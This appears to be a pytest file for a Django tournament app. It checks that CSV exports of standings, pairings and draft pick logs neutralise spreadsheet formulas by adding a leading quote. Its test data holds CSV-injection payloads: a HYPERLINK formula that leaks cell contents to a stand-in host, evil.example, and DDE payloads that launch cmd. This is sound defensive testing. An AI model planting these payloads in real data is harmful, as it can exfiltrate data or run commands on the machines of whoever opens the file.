"""CSV exports never hand a spreadsheet a formula: a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading single quote (OWASP,
"CSV Injection"), in every export the pages link to (standings, pairings, the draft's pick
log), while JSON exports keep the names exactly as they are."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from gameplay.models import DraftSeat
from gameplay.services import drafts as draft_services
from tests.factories import draft_pods, running_tournament
from tournaments.models import Player
from tournaments.services import swiss

pytestmark = pytest.mark.django_db

#: Display names a spreadsheet would run as formulas (or as DDE commands), and what the
#: CSV cell must hold instead.
DANGEROUS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")': (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def _rename(players: list[Player]) -> None:
    for player, name in zip(players, DANGEROUS, strict=False):
        player.display_name = name
        player.save(update_fields=["display_name"])


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _names_in(rows: list[list[str]], column: str) -> set[str]:
    index = rows[0].index(column)
    return {row[index] for row in rows[1:]}


def test_standings_and_pairings_csv_neutralise_formula_names_json_keeps_them() -> None:
    tournament, organiser, registrations = running_tournament(len(DANGEROUS))
    _rename([r.player for r in registrations])
    swiss.pair_next_round(actor=organiser, tournament=tournament)
    client = Client()  # the standings page links these for anyone

    standings = _cells(client.get(f"/api/v1/tournaments/{tournament.pk}/export/standings.csv"))
    assert _names_in(standings, "player") == set(DANGEROUS.values())

    pairings = _cells(client.get(f"/api/v1/tournaments/{tournament.pk}/export/pairings.csv"))
    names = _names_in(pairings, "player_a") | _names_in(pairings, "player_b")
    assert names - {"BYE"} == set(DANGEROUS.values())

    # Numbers and ordinary text are left alone.
    first = standings[1]
    assert first[standings[0].index("rank")] == "1"
    assert first[standings[0].index("record")][0].isdigit()

    data = client.get(f"/api/v1/tournaments/{tournament.pk}/export/standings.json").json()
    assert {row["display_name"] for row in data["rows"]} == set(DANGEROUS)


def test_the_draft_pick_log_csv_neutralises_formula_names() -> None:
    pods, organiser, _ = draft_pods(4)
    pod = pods[0]
    seats = DraftSeat.objects.select_related("registration__player").filter(pod=pod)
    _rename([seat.registration.player for seat in seats])
    draft_services.start_pod(actor=organiser, pod=pod)
    draft_services.end_pod(actor=organiser, pod=pod)

    log = _cells(Client().get(f"/api/v1/drafts/{pod.pk}/picks.csv"))  # public after the end
    assert _names_in(log, "player") == set(list(DANGEROUS.values())[:4])
    assert all(not row[0].startswith("'") for row in log[1:])  # seat numbers stay numbers


def test_plain_numbers_and_safe_text_are_not_quoted() -> None:
    from core.web import csv_response

    response = csv_response(
        "t.csv", ["a", "b", "c", "d", "e"], [[-3, "-1.5", "Ann-Marie", "a=b", "+44 20 7946 0000"]]
    )
    rows = _cells(response)
    assert rows[1] == ["-3", "-1.5", "Ann-Marie", "a=b", "'+44 20 7946 0000"]
